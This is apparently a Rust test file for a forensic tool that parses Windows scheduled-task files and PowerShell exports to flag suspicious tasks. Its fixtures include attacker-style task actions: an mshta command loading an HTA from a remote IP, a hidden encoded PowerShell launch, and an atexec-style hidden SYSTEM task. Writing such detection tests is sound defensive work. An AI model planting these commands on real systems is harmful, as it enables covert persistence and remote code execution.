//! Task definitions from collected files: task XML from a `System32\Tasks` tree, `schtasks /query
//! /xml`, and Get-ScheduledTask exports as JSON, JSON lines and CSV. The fixtures are
//! hand-written (tests/fixtures/task_files/README.md); every expected value below is read off
//! the fixture by hand.

use std::path::{Path, PathBuf};
use taskhunt_tasks::files::{MAX_TASK_FILE_BYTES, UNREADABLE, host_from_path, read_task_file};
use taskhunt_tasks::sources::{TaskRecord, TaskState};
use taskhunt_tasks::{Action, OriginKind, TaskDefinition, Trigger, TriggerKind};

fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/task_files").join(rel)
}

const ATEXEC: &str = "WIN-77LTAPHIQ1R/C/Windows/System32/Tasks/CYAlyNSS";
const DEFRAG: &str = "WKS-07/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag";

/// Reads a fixture that must be a task file without damage.
fn read(rel: &str, host: Option<&str>) -> Vec<TaskRecord> {
    let path = fixture(rel);
    let bytes = std::fs::read(&path).unwrap();
    read_bytes(&path, &bytes, host)
}

fn read_bytes(path: &Path, bytes: &[u8], host: Option<&str>) -> Vec<TaskRecord> {
    match read_task_file(path, bytes, host) {
        Some(Ok(r)) => r,
        Some(Err(e)) => panic!("{}: {e}", path.display()),
        None => panic!("{}: not recognised", path.display()),
    }
}

fn def(r: &TaskRecord) -> &TaskDefinition {
    r.definition.as_ref().unwrap_or_else(|| panic!("{}: no definition ({:?})", r.name, r.problem))
}

fn names(rs: &[TaskRecord]) -> Vec<&str> {
    rs.iter().map(|r| r.name.as_str()).collect()
}

fn exec(command: &str, arguments: Option<&str>, wd: Option<&str>) -> Action {
    Action::Exec { command: command.into(), arguments: arguments.map(Into::into), working_directory: wd.map(Into::into) }
}

fn utf16le_bom(text: &str) -> Vec<u8> {
    let mut b = vec![0xff, 0xfe];
    b.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    b
}

fn from_utf16le_bom(bytes: &[u8]) -> String {
    assert_eq!(&bytes[..2], &[0xff, 0xfe]);
    String::from_utf16(&bytes[2..].chunks(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect::<Vec<_>>()).unwrap()
}

/// A record without its evidence-specific parts, to compare readings of re-encoded bytes.
fn essence(rs: &[TaskRecord]) -> Vec<(String, String, Option<TaskDefinition>)> {
    rs.iter()
        .map(|r| {
            (
                r.host.clone(),
                r.name.clone(),
                r.definition.clone().map(|mut d| {
                    d.origin = Default::default();
                    d
                }),
            )
        })
        .collect()
}

// ------------------------------------------------------------------------------------------------
// Task XML files from a collected Tasks tree

#[test]
fn atexec_task_file_in_utf16() {
    let path = fixture(ATEXEC);
    let rs = read(ATEXEC, None);
    assert_eq!(rs.len(), 1);
    let r = &rs[0];
    // Host: the directory above the collected drive C; name: the path below Tasks (the XML has
    // no RegistrationInfo).
    assert_eq!((r.host.as_str(), r.name.as_str()), ("WIN-77LTAPHIQ1R", "\\CYAlyNSS"));
    assert_eq!(r.state, TaskState::Present);
    assert_eq!((r.time, r.event_id, r.run.is_none(), &r.problem), (None, None, true, &None));
    assert_eq!(r.evidence, path.display().to_string());
    let d = def(r);
    assert_eq!(d.name, "\\CYAlyNSS");
    assert_eq!(d.origin.kind, OriginKind::TaskFile);
    assert_eq!(d.origin.host.as_deref(), Some("WIN-77LTAPHIQ1R"));
    assert_eq!(d.origin.evidence.as_deref(), Some(r.evidence.as_str()));
    assert_eq!(d.registration, Default::default());
    assert_eq!(
        d.triggers,
        vec![Trigger {
            kind: TriggerKind::Daily,
            start_boundary: Some("2015-07-15T20:35:13.2757294".into()),
            days_interval: Some(1),
            ..Trigger::default()
        }]
    );
    assert_eq!(d.principal.user_id.as_deref(), Some("S-1-5-18"));
    assert_eq!(d.principal.run_level.as_deref(), Some("HighestAvailable"));
    assert_eq!(d.principal.logon_type.as_deref(), Some("InteractiveToken"));
    assert!(d.settings.hidden && d.settings.enabled && !d.settings.wake_to_run);
    assert_eq!(d.settings.execution_time_limit.as_deref(), Some("P3D"));
    assert_eq!(d.settings.multiple_instances_policy.as_deref(), Some("IgnoreNew"));
    assert_eq!(d.settings.priority, Some(7));
    assert_eq!(d.actions, vec![exec("cmd.exe", Some("/C tasklist > %windir%\\Temp\\CYAlyNSS.tmp 2>&1"), None)]);

    // A host given by the caller wins over the path.
    assert_eq!(read(ATEXEC, Some("dc01"))[0].host, "dc01");

    // The same text as UTF-8 reads the same.
    let text = from_utf16le_bom(&std::fs::read(&path).unwrap());
    assert_eq!(essence(&read_bytes(&path, text.as_bytes(), None)), essence(&rs));
}

#[test]
fn the_atexec_file_scores_like_the_event() {
    let rs = read(ATEXEC, None);
    let entries = taskhunt_tasks::inventory::build(rs, &Default::default(), &|_, _, _| None, &Default::default());
    assert_eq!(entries.len(), 1);
    let signals: Vec<&str> = entries[0].reasons.iter().map(|r| r.signal.as_str()).collect();
    for s in ["tool_fingerprint", "hidden", "system_principal"] {
        assert!(signals.contains(&s), "{s} missing from {signals:?}");
    }
    assert_eq!(entries[0].state, TaskState::Present);
}

#[test]
fn utf8_task_files_named_by_their_place_in_the_tree() {
    let rs = read(DEFRAG, None);
    assert_eq!((rs[0].host.as_str(), rs[0].name.as_str()), ("WKS-07", "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"));
    let d = def(&rs[0]);
    assert_eq!(d.registration.author.as_deref(), Some("fixture author"));
    assert_eq!(d.registration.source.as_deref(), Some("fixture source"));
    assert_eq!(
        d.triggers,
        vec![Trigger {
            kind: TriggerKind::Weekly,
            start_boundary: Some("2024-01-07T01:00:00".into()),
            weeks_interval: Some(1),
            days_of_week: vec!["Sunday".into()],
            ..Trigger::default()
        }]
    );
    assert_eq!(d.actions, vec![exec("%windir%\\system32\\defrag.exe", Some("-c -h -o -$"), None)]);
    assert_eq!(d.principal.user_id.as_deref(), Some("S-1-5-18"));

    // UTF-8 with BOM; the file's place (\Updater) wins over the URI it claims, which stays in
    // the registration for anyone comparing the two.
    let rs = read("WKS-07/Windows/System32/Tasks/Updater", None);
    assert_eq!(names(&rs), vec!["\\Updater"]);
    let d = def(&rs[0]);
    assert_eq!(d.registration.uri.as_deref(), Some("\\Microsoft\\Windows\\Updater"));
    assert_eq!(d.triggers[0].kind, TriggerKind::Logon);
    assert_eq!(d.triggers[0].detail.as_deref(), Some("CORP\\alice"));
    assert_eq!(d.triggers[0].delay.as_deref(), Some("PT30S"));
    assert_eq!(
        d.actions,
        vec![exec("C:\\Users\\alice\\AppData\\Roaming\\upd.exe", Some("-q"), Some("C:\\Users\\alice\\AppData\\Roaming"))]
    );
    assert!(d.settings.hidden);
}

#[test]
fn task_files_outside_a_tasks_tree() {
    let bytes = std::fs::read(fixture("WKS-07/Windows/System32/Tasks/Updater")).unwrap();
    // Not under Tasks: the URI names it, and the host is unknown.
    let rs = read_bytes(Path::new("/cases/loose/evil.xml"), &bytes, None);
    assert_eq!((rs[0].host.as_str(), rs[0].name.as_str()), ("unknown", "\\Microsoft\\Windows\\Updater"));
    // No URI either: the file name without .xml.
    let rs = read_bytes(Path::new("/cases/loose/evil.xml"), &std::fs::read(fixture(ATEXEC)).unwrap(), None);
    assert_eq!(names(&rs), vec!["\\evil"]);
    // A copied Tasks folder without the Windows tree above it still names the task.
    let rs = read_bytes(Path::new("triage/Tasks/Vendor/Job"), &bytes, Some("h1"));
    assert_eq!((rs[0].host.as_str(), rs[0].name.as_str()), ("h1", "\\Vendor\\Job"));
    // A task folder that is itself called Tasks: the Tasks right below System32 counts.
    let rs = read_bytes(Path::new("H/C/Windows/System32/Tasks/Tasks/x"), &bytes, None);
    assert_eq!((rs[0].host.as_str(), rs[0].name.as_str()), ("H", "\\Tasks\\x"));
}

// ------------------------------------------------------------------------------------------------
// schtasks /query /xml

fn check_schtasks(rs: &[TaskRecord]) {
    // Named by the comments; the third one's comment (\Backup) wins over its URI.
    assert_eq!(names(rs), vec!["\\Microsoft\\Windows\\Maintenance\\Fixture", "\\Updater\\Check", "\\Backup"]);
    let d = def(&rs[0]);
    assert_eq!(
        d.actions,
        vec![Action::ComHandler { class_id: "{0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0}".into(), data: Some("fixture data".into()) }]
    );
    assert!(d.triggers.is_empty());
    assert_eq!(d.principal.run_level.as_deref(), Some("HighestAvailable"));
    assert_eq!(d.settings.execution_time_limit.as_deref(), Some("PT30M"));
    let d = def(&rs[1]);
    assert_eq!(d.registration.uri, None);
    assert_eq!(d.actions, vec![exec("C:\\Users\\alice\\AppData\\Roaming\\upd.exe", None, None)]);
    assert_eq!(d.principal.logon_type.as_deref(), Some("InteractiveToken"));
    assert!(d.settings.hidden);
    let d = def(&rs[2]);
    assert_eq!(d.registration.uri.as_deref(), Some("\\Microsoft\\Windows\\Backup"));
    assert!(!d.settings.enabled);
    assert_eq!(
        d.triggers,
        vec![
            Trigger {
                kind: TriggerKind::Weekly,
                start_boundary: Some("2024-03-01T02:00:00".into()),
                weeks_interval: Some(2),
                days_of_week: vec!["Monday".into(), "Friday".into()],
                ..Trigger::default()
            },
            Trigger {
                kind: TriggerKind::Time,
                start_boundary: Some("2024-03-01T02:00:00".into()),
                repetition_interval: Some("PT15M".into()),
                repetition_duration: Some("P1D".into()),
                ..Trigger::default()
            },
        ]
    );
    assert_eq!(d.actions[0].command_line().as_deref(), Some("powershell.exe -NoP -W Hidden -File C:\\ProgramData\\b.ps1"));
    for r in rs {
        assert_eq!((r.state, def(r).origin.kind), (TaskState::Present, OriginKind::TaskFile));
    }
}

#[test]
fn schtasks_query_xml_in_utf16_and_utf8() {
    let path = fixture("exports/schtasks_query.xml");
    let bytes = std::fs::read(&path).unwrap();
    let rs = read_bytes(&path, &bytes, Some("srv1"));
    check_schtasks(&rs);
    let shown = path.display().to_string();
    assert_eq!(rs.iter().map(|r| r.evidence.clone()).collect::<Vec<_>>(), [4, 27, 49].map(|l| format!("{shown}:{l}")));
    assert!(rs.iter().all(|r| r.host == "srv1"));

    // UTF-8 (LF endings, as if converted), UTF-16BE with BOM and UTF-16LE without a BOM read the same.
    let text = from_utf16le_bom(&bytes);
    let utf8 = read_bytes(&path, text.replace("\r\n", "\n").as_bytes(), Some("srv1"));
    check_schtasks(&utf8);
    assert_eq!(utf8[2].evidence, format!("{shown}:49"));
    let mut be = vec![0xfe, 0xff];
    be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
    assert_eq!(essence(&read_bytes(&path, &be, Some("srv1"))), essence(&rs));
    assert_eq!(essence(&read_bytes(&path, &bytes[2..], Some("srv1"))), essence(&rs));
}

// ------------------------------------------------------------------------------------------------
// Get-ScheduledTask | ConvertTo-Json

#[test]
fn convertto_json_array_with_enum_numbers() {
    let path = fixture("exports/get_scheduledtask.json");
    let rs = read("exports/get_scheduledtask.json", None);
    assert_eq!(names(&rs), vec!["\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "\\SvcHealth"]);
    // PSComputerName names the host; the objects start on lines 2 and 63.
    assert!(rs.iter().all(|r| r.host == "WKS-07" && r.state == TaskState::Present && r.problem.is_none()));
    assert_eq!(rs[1].evidence, format!("{}:63", path.display()));

    let d = def(&rs[0]);
    assert_eq!(d.origin.kind, OriginKind::PowerShellExport);
    assert_eq!(d.registration.uri.as_deref(), Some("\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"));
    assert_eq!(d.registration.source.as_deref(), Some("fixture source"));
    assert_eq!(d.registration.date, None);
    assert_eq!(d.actions, vec![exec("%windir%\\system32\\defrag.exe", Some("-c -h -o -$"), None)]);
    // 34 = Monday (2) + Friday (32); RandomDelay is the delay of calendar triggers.
    assert_eq!(
        d.triggers,
        vec![Trigger {
            kind: TriggerKind::Weekly,
            start_boundary: Some("2024-01-01T01:00:00".into()),
            weeks_interval: Some(1),
            days_of_week: vec!["Monday".into(), "Friday".into()],
            delay: Some("PT1H".into()),
            ..Trigger::default()
        }]
    );
    // LogonType 5 = ServiceAccount, RunLevel 1 = Highest, MultipleInstances 2 = IgnoreNew.
    assert_eq!(
        (d.principal.user_id.as_deref(), d.principal.logon_type.as_deref(), d.principal.run_level.as_deref()),
        (Some("SYSTEM"), Some("ServiceAccount"), Some("HighestAvailable"))
    );
    assert_eq!(d.settings.multiple_instances_policy.as_deref(), Some("IgnoreNew"));
    assert_eq!((d.settings.priority, d.settings.start_when_available, d.settings.enabled), (Some(7), true, true));

    let d = def(&rs[1]);
    assert_eq!(d.registration.date.as_deref(), Some("2024-02-03T04:05:06.789"));
    assert_eq!(
        d.actions,
        vec![
            exec("powershell.exe", Some("-nop -w hidden -enc SQBFAFgA"), Some("C:\\ProgramData")),
            Action::ComHandler { class_id: "{0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0}".into(), data: Some("fixture data".into()) },
        ]
    );
    assert_eq!(
        d.triggers,
        vec![
            Trigger {
                kind: TriggerKind::Logon,
                detail: Some("CORP\\bob".into()),
                delay: Some("PT1M".into()),
                repetition_interval: Some("PT5M".into()),
                repetition_duration: Some("P1D".into()),
                ..Trigger::default()
            },
            Trigger {
                kind: TriggerKind::Daily,
                enabled: false,
                start_boundary: Some("2024-02-03T04:05:06".into()),
                days_interval: Some(2),
                ..Trigger::default()
            },
            Trigger {
                kind: TriggerKind::Event,
                detail: Some(
                    "<QueryList><Query Id=\"0\"><Select Path=\"Security\">*[System[EventID=4625]]</Select></Query></QueryList>".into()
                ),
                ..Trigger::default()
            },
            // StateChange 8 = SessionUnlock.
            Trigger { kind: TriggerKind::SessionStateChange, detail: Some("SessionUnlock".into()), ..Trigger::default() },
            Trigger { kind: TriggerKind::Boot, ..Trigger::default() },
        ]
    );
    // LogonType 3 = Interactive (InteractiveToken in task XML), RunLevel 0 = Limited.
    assert_eq!((d.principal.logon_type.as_deref(), d.principal.run_level.as_deref()), (Some("InteractiveToken"), Some("LeastPrivilege")));
    // State 1 = Disabled overrides Settings.Enabled; MultipleInstances 0 = Parallel.
    assert!(!d.settings.enabled && d.settings.hidden && d.settings.wake_to_run);
    assert_eq!(d.settings.execution_time_limit.as_deref(), Some("PT0S"));
    assert_eq!(d.settings.multiple_instances_policy.as_deref(), Some("Parallel"));

    // Windows PowerShell's `> file` writes UTF-16LE with BOM; the caller's host beats PSComputerName.
    let text = std::fs::read_to_string(&path).unwrap();
    let again = read_bytes(&path, &utf16le_bom(&text), Some("other"));
    assert!(again.iter().all(|r| r.host == "other"));
    let mut expected = essence(&rs);
    expected.iter_mut().for_each(|e| e.0 = "other".into());
    assert_eq!(essence(&again), expected);
}

#[test]
fn convertto_json_cut_off_by_its_depth_limit() {
    let rs = read("exports/get_scheduledtask_depth2.json", None);
    assert_eq!(rs.len(), 1);
    let r = &rs[0];
    // PSComputerName is null and the path has no host in it.
    assert_eq!((r.host.as_str(), r.name.as_str()), ("unknown", "\\Contoso\\Sync"));
    let d = def(r);
    assert_eq!(d.actions, vec![Action::Other { kind: "MSFT_TaskExecAction".into() }]);
    assert_eq!(
        d.triggers,
        vec![
            Trigger { kind: TriggerKind::Logon, ..Trigger::default() },
            Trigger { kind: TriggerKind::Other, detail: Some("MSFT_TaskTrigger".into()), ..Trigger::default() }
        ]
    );
    assert_eq!(d.principal, Default::default());
    assert_eq!(d.registration.author.as_deref(), Some("CONTOSO\\admin"));
    assert!(!d.settings.enabled, "State Disabled");
    let problem = r.problem.as_deref().unwrap();
    assert!(problem.contains("depth limit") && problem.contains("-Depth"), "{problem}");
}

#[test]
fn json_lines_with_enum_names() {
    let rs = read("exports/get_scheduledtask.jsonl", Some("wks-9"));
    assert_eq!(names(&rs), vec!["\\GoogleUpdaterTaskSystem", "\\Microsoft\\Tmp1", "\\Old"]);
    let path = fixture("exports/get_scheduledtask.jsonl").display().to_string();
    assert_eq!(rs.iter().map(|r| r.evidence.clone()).collect::<Vec<_>>(), [1, 2, 4].map(|l| format!("{path}:{l}")));

    let d = def(&rs[0]);
    assert_eq!(d.actions, vec![exec("C:\\Program Files (x86)\\Google\\updater.exe", Some("--wake"), None)]);
    // The class as "Namespace:Class" text.
    assert_eq!(
        d.triggers,
        vec![Trigger {
            kind: TriggerKind::Daily,
            start_boundary: Some("2024-05-05T12:00:00".into()),
            days_interval: Some(1),
            ..Trigger::default()
        }]
    );
    assert_eq!((d.principal.logon_type.as_deref(), d.principal.run_level.as_deref()), (Some("ServiceAccount"), Some("HighestAvailable")));
    assert!(d.settings.enabled);

    let d = def(&rs[1]);
    // Actions as one object rather than a list.
    assert_eq!(d.actions, vec![exec("mshta.exe", Some("http://198.51.100.7/a.hta"), None)]);
    // Without a class: WeeksInterval/DaysOfWeek make it weekly, a UserId key (even null) a logon
    // trigger, and nothing at all an unknown one.
    assert_eq!(
        d.triggers,
        vec![
            Trigger {
                kind: TriggerKind::Weekly,
                start_boundary: Some("2024-05-06T00:00:00".into()),
                weeks_interval: Some(1),
                days_of_week: vec!["Tuesday".into(), "Thursday".into()],
                ..Trigger::default()
            },
            Trigger { kind: TriggerKind::Logon, delay: Some("PT2M".into()), ..Trigger::default() },
            Trigger { kind: TriggerKind::Other, enabled: false, ..Trigger::default() },
        ]
    );
    assert_eq!(
        (d.principal.user_id.as_deref(), d.principal.logon_type.as_deref(), d.principal.run_level.as_deref()),
        (Some("CORP\\eve"), Some("S4U"), Some("LeastPrivilege"))
    );
    assert!(d.settings.hidden && d.settings.enabled);
    assert_eq!(d.settings.priority, Some(4));

    let d = def(&rs[2]);
    assert!(d.actions.is_empty() && d.triggers.is_empty());
    assert_eq!((d.principal.group_id.as_deref(), d.principal.logon_type.as_deref()), (Some("S-1-5-32-545"), Some("Group")));
    assert!(!d.settings.enabled, "State Disabled");
}

// ------------------------------------------------------------------------------------------------
// Get-ScheduledTask | Select-Object ... | Export-Csv

#[test]
fn export_csv_with_type_line_and_multiline_fields() {
    let path = fixture("exports/get_scheduledtask.csv");
    let rs = read("exports/get_scheduledtask.csv", Some("wks-7"));
    assert_eq!(names(&rs), vec!["\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", "\\Updater", "\\Tools\\Multi", "\\Free"]);
    let shown = path.display().to_string();
    assert_eq!(rs.iter().map(|r| r.evidence.clone()).collect::<Vec<_>>(), [3, 4, 6, 7].map(|l| format!("{shown}:{l}")));
    assert!(rs.iter().all(|r| r.host == "wks-7" && def(r).origin.kind == OriginKind::PowerShellExport));

    let d = def(&rs[0]);
    assert_eq!(d.registration.description.as_deref(), Some("Stand-in, with a comma."));
    assert_eq!(d.actions, vec![exec("%windir%\\system32\\defrag.exe", Some("-c -h -o -$"), None)]);
    assert_eq!(d.triggers, vec![Trigger { kind: TriggerKind::Weekly, ..Trigger::default() }]);
    assert_eq!((d.principal.user_id.as_deref(), d.principal.run_level.as_deref()), (Some("SYSTEM"), Some("HighestAvailable")));
    assert!(d.settings.enabled && !d.settings.hidden);
    assert_eq!(rs[0].problem, None);

    let d = def(&rs[1]);
    assert_eq!(d.registration.description.as_deref(), Some("line one\r\nline two, with \"quotes\""));
    assert_eq!(d.registration.uri, None);
    assert_eq!(d.actions, vec![exec("C:\\Users\\alice\\AppData\\Local\\Temp\\u.exe", Some("/silent"), Some("C:\\Users\\alice"))]);
    assert_eq!(d.triggers.iter().map(|t| t.kind).collect::<Vec<_>>(), vec![TriggerKind::Logon, TriggerKind::Daily]);
    assert_eq!(d.principal.run_level.as_deref(), Some("LeastPrivilege"));
    assert!(!d.settings.enabled && d.settings.hidden);

    // Lists exported as type names are no values, and the record says so.
    let d = def(&rs[2]);
    assert!(d.actions.is_empty() && d.triggers.is_empty());
    assert_eq!(d.principal.run_level.as_deref(), Some("HighestAvailable"));
    let problem = rs[2].problem.as_deref().unwrap();
    for col in ["Execute", "Arguments", "Triggers"] {
        assert!(problem.contains(&format!("column {col} holds the type name")), "{problem}");
    }

    // Free text that names no trigger kind is kept as it is.
    assert_eq!(
        def(&rs[3]).triggers,
        vec![Trigger { kind: TriggerKind::Other, detail: Some("At 09:00 every day".into()), ..Trigger::default() }]
    );
}

#[test]
fn csv_variants_and_damage() {
    let p = Path::new("x/tasks.csv");
    // -UseCulture with a semicolon, no #TYPE line, unquoted cells, PSComputerName as the host.
    let rs = read_bytes(p, b"TaskName;TaskPath;Execute;PSComputerName\n\nA;\\Dir\\;a.exe;PC-1\n", None);
    assert_eq!((rs[0].host.as_str(), rs[0].name.as_str()), ("PC-1", "\\Dir\\A"));
    assert_eq!(rs[0].evidence, "x/tasks.csv:3");
    assert_eq!(def(&rs[0]).actions, vec![exec("a.exe", None, None)]);
    // Cut off inside a quoted field: the rows before it stay, the cut one is reported.
    let rs = read_bytes(p, b"\"TaskName\",\"Execute\"\r\n\"A\",\"a.exe\"\r\n\"B\",\"b.e", None);
    assert_eq!(names(&rs), vec!["\\A", UNREADABLE]);
    assert!(rs[1].definition.is_none());
    assert_eq!(rs[1].problem.as_deref(), Some("line 3: the row ends inside a quoted field (file truncated?)"));
    assert_eq!(rs[1].evidence, "x/tasks.csv:3");
    // Nothing readable at all is an error.
    let e = read_task_file(p, b"\"TaskName\",\"Execute\"\r\n\"\",\"a.exe\"\r\n", None).unwrap().unwrap_err();
    assert_eq!(e, "line 2: a row with no TaskName");
}

// ------------------------------------------------------------------------------------------------
// Host detection

#[test]
fn hosts_from_collection_paths() {
    let h = |p: &str| host_from_path(Path::new(p));
    assert_eq!(h("/cases/HOST1/C/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag"), "HOST1");
    assert_eq!(h("/cases/HOST1/Windows/System32/Tasks/X"), "HOST1");
    assert_eq!(h("HOST2/c/windows/system32/tasks/X"), "HOST2");
    assert_eq!(h("/cases/HOST3/C$/Windows/System32/Tasks/X"), "HOST3");
    assert_eq!(h("E:\\kape\\HOST4\\C\\Windows\\System32\\Tasks\\X"), "HOST4");
    assert_eq!(h("\\\\HOST5\\C$\\Windows\\System32\\Tasks\\X"), "HOST5");
    assert_eq!(h("/cases/HOST6/C%3A/Windows/System32/winevt/Logs/Security.evtx"), "HOST6");
    // A task folder called Windows\System32 does not move the host.
    assert_eq!(h("/cases/HOST7/C/Windows/System32/Tasks/Windows/System32/evil"), "HOST7");
    // A live system, a drive with nothing above it, a collector's own directories, no Windows tree.
    assert_eq!(h("C:\\Windows\\System32\\Tasks\\X"), "unknown");
    assert_eq!(h("C/Windows/System32/Tasks/X"), "unknown");
    assert_eq!(h("/Windows/System32/Tasks/X"), "unknown");
    assert_eq!(h("/zip/uploads/auto/C%3A/Windows/System32/Tasks/X"), "unknown");
    assert_eq!(h("/cases/exports/tasks.json"), "unknown");
    assert_eq!(h(""), "unknown");
}

// ------------------------------------------------------------------------------------------------
// Not task files, damaged task files, hostile input

#[test]
fn events_and_other_files_are_not_task_files() {
    let p = Path::new("f");
    let not =
        |bytes: &[u8]| assert!(read_task_file(p, bytes, None).is_none(), "{:?}", String::from_utf8_lossy(&bytes[..bytes.len().min(80)]));
    // evtx-dump JSON of a 4698: TaskName inside EventData, not a task.
    not(br#"{"Event":{"System":{"EventID":4698,"Computer":"h"},"EventData":{"TaskName":"\\X","TaskContent":"<Task/>"}}}"#);
    not(b"[{\"Event\":{\"EventData\":{\"TaskName\":\"\\\\X\"}}}]\n");
    // Winlogbeat, and a Defender DeviceEvents row whose AdditionalFields hold a task.
    not(br#"{"@timestamp":"2024-01-01T00:00:00Z","winlog":{"event_id":4698,"event_data":{"TaskName":"\\X"}}}"#);
    not(br#"{"Timestamp":"2024-01-01","ActionType":"ScheduledTaskCreated","AdditionalFields":"{\"TaskName\":\"\\\\X\",\"TaskPath\":\"\\\\\"}"}"#);
    // A JSON object that merely has a TaskName, and one that smuggles event keys next to task keys.
    not(br#"{"TaskName":"X"}"#);
    not(br#"{"TaskName":"X","TaskPath":"\\","EventData":{}}"#);
    // Event XML, wevtutil output, other XML, an evtx header, gzip of an event file, CSVs of events.
    not(b"<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System/></Event>");
    not(b"<?xml version=\"1.0\"?><Events><Event/></Events>");
    not(b"<TaskList/>");
    not(b"ElfFile\0\0\0\0\0\0\0\0");
    not(b"Timestamp,DeviceName,ActionType,AdditionalFields\n2024-01-01,h,ScheduledTaskCreated,\"{}\"\n");
    not(b"TimeCreated,EventID,TaskName,TaskContent\n2024,4698,\\X,<Task/>\n");
    // schtasks /query /fo csv /v: a different format, left alone.
    not(b"\"HostName\",\"TaskName\",\"Next Run Time\",\"Status\",\"Task To Run\"\r\n\"H\",\"\\X\",\"N/A\",\"Ready\",\"x.exe\"\r\n");
    not(b"");
    not(b"   \r\n ");
    not(b"[]");
    not(b"hello world\n");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, br#"{"Event":{"EventData":{"TaskName":"\\X"}}}"#).unwrap();
    not(&gz.finish().unwrap());
    not(&[0x1f, 0x8b, 0x08, 0x00, 0xff]);
}

#[test]
fn malformed_xml_gives_a_reason() {
    let p = Path::new("H/C/Windows/System32/Tasks/Bad");
    let err = |bytes: &[u8]| read_task_file(p, bytes, None).expect("a task file").expect_err("an error");
    let e = err(b"<?xml version=\"1.0\"?>\n<Task>\n  <Actions>\n    <Exec><Command>x</Command></Exec>\n</Task>\n");
    assert!(e.starts_with("task XML, line 5:"), "{e}");
    assert!(e.contains("Actions") && e.contains("Task"), "{e}");
    let e = err(b"<Task>\n<Actions>\n");
    assert_eq!(e, "task XML, line 3: document ends inside <Actions>");
    let e = err(b"<!DOCTYPE t [<!ENTITY a \"aaaa\">]><Task><Settings><Hidden>&a;</Hidden></Settings></Task>");
    assert!(e.contains("DOCTYPE"), "{e}");
    // Two roots (a second document pasted on).
    let e = err(b"<Task></Task><Task></Task>");
    assert!(e.contains("2 root elements"), "{e}");
    // Leading blank lines count toward the line reported.
    let e = err(b"\n\n<Task>\n<Actions>\n");
    assert_eq!(e, "task XML, line 5: document ends inside <Actions>");
}

#[test]
fn truncated_and_odd_utf16() {
    let path = fixture(ATEXEC);
    let bytes = std::fs::read(&path).unwrap();
    let whole = essence(&read_bytes(&path, &bytes, None));
    // An odd trailing byte is dropped and the task reads the same.
    let mut odd = bytes.clone();
    odd.push(0x41);
    assert_eq!(essence(&read_bytes(&path, &odd, None)), whole);
    // Losing the last byte loses the final '>': an odd count and a broken document.
    let e = read_task_file(&path, &bytes[..bytes.len() - 1], None).unwrap().unwrap_err();
    assert!(e.starts_with("task XML, line 43:"), "{e}");
    // Cut in half (1526 bytes): the text stops on line 22 inside the tag `<StopIfGoingOnB`.
    let e = read_task_file(&path, &bytes[..bytes.len() / 2], None).unwrap().unwrap_err();
    assert!(e.starts_with("task XML, line 22:"), "{e}");
    // A lone surrogate in the middle becomes U+FFFD instead of failing the decode.
    let text = from_utf16le_bom(&bytes);
    let mut units: Vec<u16> = text.encode_utf16().collect();
    units[text[..text.find("tasklist").unwrap()].encode_utf16().count()] = 0xd800;
    let mut b = vec![0xff, 0xfe];
    b.extend(units.iter().flat_map(|u| u.to_le_bytes()));
    let rs = read_bytes(&path, &b, None);
    assert_eq!(def(&rs[0]).actions[0].command_line().as_deref(), Some("cmd.exe /C \u{fffd}asklist > %windir%\\Temp\\CYAlyNSS.tmp 2>&1"));
    // Every prefix of the file is read without a panic: None, an error, or the one task.
    for n in 0..=bytes.len() {
        if let Some(Ok(rs)) = read_task_file(&path, &bytes[..n], None) {
            assert_eq!(rs.len(), 1);
        }
    }
}

#[test]
fn damaged_json_costs_only_the_damaged_object() {
    let p = Path::new("exports/t.json");
    let text = std::fs::read_to_string(fixture("exports/get_scheduledtask.json")).unwrap();
    // Cut inside the second object (it starts on line 63).
    let cut = &text[..text.find("SvcHealth").unwrap()];
    let rs = read_bytes(p, cut.as_bytes(), None);
    assert_eq!(names(&rs), vec!["\\Microsoft\\Windows\\Defrag\\ScheduledDefrag", UNREADABLE]);
    assert_eq!(rs[1].problem.as_deref(), Some("line 63: the JSON object is cut off (file truncated?)"));
    assert_eq!(rs[1].state, TaskState::Present);
    // JSON lines with a broken line, a non-task object and stray text between good lines.
    let jsonl = "{\"TaskName\":\"A\",\"TaskPath\":\"\\\\\"}\n{\"TaskName\":\"B\",,}\n{\"Name\":\"C\"}\nnot json\n{\"TaskName\":\"D\",\"TaskPath\":\"\\\\\"}\n";
    let rs = read_bytes(p, jsonl.as_bytes(), Some("h"));
    assert_eq!(names(&rs), vec!["\\A", UNREADABLE, UNREADABLE, UNREADABLE, "\\D"]);
    assert!(rs[1].problem.as_deref().unwrap().starts_with("line 2: bad JSON:"), "{:?}", rs[1].problem);
    assert!(rs[2].problem.as_deref().unwrap().starts_with("line 3: a JSON object that is not a scheduled task"));
    assert_eq!(rs[3].problem.as_deref(), Some("line 4: text outside any JSON object"));
    assert_eq!(rs[4].evidence, "exports/t.json:5");
    // Only damage: an error naming the first problem.
    let e = read_task_file(p, b"{\"TaskName\":\"A\",\"TaskPath\":\"\\\\\", oops}\n{\"TaskName\":", None).unwrap().unwrap_err();
    assert_eq!(e, "line 1: bad JSON: key must be a string at line 1 column 34 (and 1 more unreadable)");
    // Nesting far past serde_json's recursion limit is a parse error, not a stack overflow.
    let deep = format!("[{{\"TaskName\":\"A\",\"TaskPath\":\"\\\\\",\"Actions\":{}{}}}]", "[".repeat(100_000), "]".repeat(100_000));
    let e = read_task_file(p, deep.as_bytes(), None).unwrap().unwrap_err();
    assert!(e.contains("recursion limit"), "{e}");
}

#[test]
fn gzipped_exports() {
    let path = fixture("exports/get_scheduledtask.csv");
    let bytes = std::fs::read(&path).unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &bytes).unwrap();
    let gz = gz.finish().unwrap();
